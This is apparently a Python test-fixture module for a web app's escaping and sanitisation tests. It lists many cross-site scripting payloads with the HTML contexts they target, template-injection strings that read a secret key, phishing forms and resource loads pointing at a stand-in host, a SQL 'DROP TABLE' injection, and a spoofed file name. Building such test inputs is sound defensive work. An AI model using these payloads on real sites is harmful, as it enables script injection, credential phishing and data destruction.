"""Texts that want to be a script, and texts that want to be something else."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](x\" onerror=\"alert(1))",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>Sign in</button></form>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "https://example.com/\"onmouseover=\"alert(1)",
    "<x hx-get='/me/' hx-trigger='load'>",
    "<div data-controller='composer' id='thread'>",
]  # fmt: skip
ODD = {
    "empty": "",
    "spaces": " \t\n ",
    "null byte": "before\x00after",
    "control": "bell\x07 and escape\x1b[31m",
    "direction": "invoice\u202egnp.exe",
    "line breaks": "one\r\ntwo\rthree\u2028four",
    "megabyte": "长" * 350_000,
    "lone surrogate": "\ud800",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "sql": "'; DROP TABLE tickets_ticket; --",
    "format": "%s %(name)s {0} {actor} ${x}",
}

# What each text needs around it to come to life, for those in the list above and many more. `control` pages
# put a text there raw, to show that whoever watches would see it.
AROUND = {
    "html": '<main class="say__body">%s</main>',
    "attribute": '<main><input value="%s"></main>',
    "attribute'": "<main><input value='%s'></main>",
    "address": '<main><a href="%s">click</a></main>',
    "title": "<title>%s</title>",
    "textarea": "<main><textarea>%s</textarea></main>",
    "style": "<style>%s</style>",
    "script": "<script>const name = '%s';</script>",
    "noscript": "<noscript>%s</noscript>",
}
_HTML = """
<img src=//evil.example/a.png>
<img srcset="//evil.example/a.png 1x">
<img src=x:x onerror=alert(1)//
<IMG SRC=x OnErRoR=alert(1)>
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=//evil.example/a.png></video>
<audio src=x onerror=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="//evil.example/a.svg"></object>
<embed src="//evil.example/a.swf">
<iframe src="javascript:alert(1)"></iframe>
<iframe src=//evil.example/></iframe>
<link rel=stylesheet href=//evil.example/a.css>
<link rel=prefetch href=//evil.example/a>
<script src=//evil.example/a.js></script>
<script type=module>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>
<svg><image href=//evil.example/a.png></svg>
<math href="javascript:alert(1)">click</math>
<marquee onstart=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)>
<div tabindex=0 autofocus onfocus=alert(1)>x</div>
<form><button formaction="javascript:alert(1)">click</button></form>
<form id=reply><input name=action></form>
<div style="background:url(//evil.example/a.png)">x</div>
<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>
<p onpointerover=alert(1)>x</p>
<a href="java&#9;script:alert(1)">click</a>
<a href="&#x6a;avascript:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href=x onclick=alert(1)>click</a>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="//evil.example/a.css"?><img src=x onerror=alert(1)>
<div hx-get="https://evil.example/" hx-trigger="load">x</div>
<div hx-on::load="alert(1)" data-controller="live">x</div>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<details open ontoggle=alert(1)><summary>x</summary></details>
<custom-x onanimationstart=alert(1) style="animation:x">x</custom-x>
""".strip().splitlines()
HOSTILE: list[tuple[str, str]] = [
    *(("html", text) for text in _HTML),
    *(("html", text) for text in SCRIPTS if text.startswith("<") and "\x00" not in text),
    ("attribute", '" onfocus=alert(1) autofocus x="'),
    ("attribute", '"><img src=x onerror=alert(1)>'),
    ("attribute", '"><script>alert(1)</script>'),
    ("attribute'", "' onfocus=alert(1) autofocus x='"),
    ("attribute'", "'><img src=x onerror=alert(1)>"),
    ("address", "javascript:alert(1)"),
    ("address", "JaVaScRiPt:alert(1)"),
    ("address", "javascript://example.com/%0aalert(1)"),
    ("address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("address", 'https://example.com/"onmouseover="alert(1)'),
    ("title", "</title><script>alert(1)</script>"),
    ("textarea", "</textarea><script>alert(1)</script>"),
    ("style", "</style><img src=x onerror=alert(1)>"),
    ("script", "'-alert(1)-'"),
    ("script", "</script><img src=x onerror=alert(1)>"),
    ("script", "'};alert(1);{'"),
    ("noscript", '<p title="</noscript><img src=x onerror=alert(1)>">'),
    ("markdown", "[click](javascript:alert(1))"),
    ("markdown", "[click](JaVaScRiPt&colon;alert(1))"),
    ("markdown", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown", "[click](vbscript:alert(1))"),
    ("quoted", '![x](x" onerror="alert(1))'),
    ("quoted", '![x](https://evil.example/pixel.png "x" onerror=alert(1))'),
    ("markdown", "![x](https://evil.example/pixel.png)"),
    ("markdown", "<javascript:alert(1)>"),
    ("quoted", '<https://example.com/"onmouseover="alert(1)>'),
    ("markdown", "[click][1]\n\n[1]: javascript:alert(1)"),
    ("quoted", "```<img src=x onerror=alert(1)>\nx\n```"),
    ("quoted", "`<img src=x onerror=alert(1)>`"),
    ("markdown", "| <img src=x onerror=alert(1)> |\n| --- |\n| x |"),
    ("markdown", "## <img src=x onerror=alert(1)>"),
    ("template", "{{ constructor.constructor('alert(1)')() }}"),
    ("template", "{% debug %}{{ settings.SECRET_KEY }}"),
    ("template", "${alert(1)}"),
    ("template", "#{alert(1)}"),
    ("encoding", "<script>alert(1)"),
    ("encoding", "＜script＞alert(1)＜/script＞"),
    ("encoding", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("encoding", "\u2028<img src=x onerror=alert(1)>\u2029"),
    ("encoding", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoding", "\\u003cimg src=x onerror=alert(1)\\u003e"),
]
